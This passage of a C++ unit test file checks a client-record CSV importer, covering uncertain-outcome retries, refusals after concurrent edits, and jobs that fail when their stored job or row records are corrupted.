  EXPECT_THAT(failed.failure_reason(), HasSubstr("may or may not"));
  EXPECT_EQ(Number(rossi_), "R-1");  // it did land

  JobRecord resolved = Import(csv, "u-lost");
  EXPECT_EQ(resolved.job_id(), failed.job_id());
  EXPECT_EQ(resolved.state(), v1::ImportJob::SUCCEEDED) << resolved.failure_reason();
  EXPECT_EQ(resolved.applied_rows(), 1);
  EXPECT_EQ(resolved.unchanged_rows(), 0);
  EXPECT_EQ(directory_.apply_calls, 1);
}

TEST_F(ImporterTest, ARefusalIsNothingAppliedAndNotResent) {
  directory_.before_apply = [&] { EditClient(rossi_); };
  JobRecord failed = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}));
  EXPECT_EQ(failed.state(), v1::ImportJob::FAILED);
  EXPECT_THAT(failed.failure_reason(), HasSubstr("nothing was applied"));
  EXPECT_EQ(waited, absl::ZeroDuration());
}

TEST_F(ImporterTest, AJobWhoseStoredStateCannotBeReadEndsFailed) {
  auto started = importer_->Start(testing::As("alice"), firm_,
                                  File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}), "", "");
  ASSERT_THAT(started, IsOk());
  CorruptFirstRecordUnder('J');  // the job record

  RunScheduled();
  JobRecord job = *importer_->Get(testing::As("alice"), {firm_, started->job_id()});
  EXPECT_EQ(job.state(), v1::ImportJob::FAILED);
  EXPECT_FALSE(job.retryable());
  EXPECT_THAT(job.failure_reason(), HasSubstr("cannot be read"));
  // Nothing is left to resume at the next start.
  ASSERT_THAT(importer_->ResumeUnfinished(), IsOk());
  EXPECT_TRUE(scheduler_.queue.empty());
}

TEST_F(ImporterTest, ARowLogThatCannotBeReadEndsTheJobFailed) {
  auto started = importer_->Start(testing::As("alice"), firm_,
                                  File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}), "", "");
  ASSERT_THAT(started, IsOk());
  CorruptFirstRecordUnder('W');  // a row
  RunScheduled();
  JobRecord job = *importer_->Get(testing::As("alice"), {firm_, started->job_id()});
  EXPECT_EQ(job.state(), v1::ImportJob::FAILED);
  EXPECT_THAT(job.failure_reason(), HasSubstr("cannot be read"));
}

}  // namespace
}  // namespace clientbook::importer
